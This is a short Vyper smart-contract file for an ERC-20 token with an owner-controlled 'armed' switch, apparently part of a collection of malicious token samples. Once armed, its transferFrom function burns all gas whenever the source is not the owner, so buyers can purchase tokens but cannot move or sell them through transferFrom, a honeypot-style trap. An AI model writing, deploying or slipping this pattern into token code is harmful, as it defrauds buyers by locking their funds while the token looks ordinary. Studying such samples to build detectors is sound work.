# pragma version 0.4.3
# pragma evm-version cancun
"""
@title Burns all gas on a sale
@notice Once armed, moving a buyer's tokens with `transferFrom` loops until the gas
        is gone. Buying works as usual.
"""

from ..tokens.lib import erc20
from .lib import burner
from .lib import switch

initializes: erc20
initializes: switch

exports: (
    erc20.name,
    erc20.symbol,
    erc20.decimals,
    erc20.totalSupply,
    erc20.balanceOf,
    erc20.allowance,
    erc20.approve,
    erc20.transfer,
    switch.owner,
    switch.armed,
    switch.arm,
)


@deploy
def __init__(name: String[64], symbol: String[32], supply: uint256):
    erc20.__init__(name, symbol, 18, supply)
    switch.__init__()


@external
def transferFrom(source: address, to: address, amount: uint256) -> bool:
    if switch.armed and source != switch.owner:
        burner._burn_all_gas()
    erc20._spend(source, msg.sender, amount)
    erc20._move(source, to, amount)
    return True
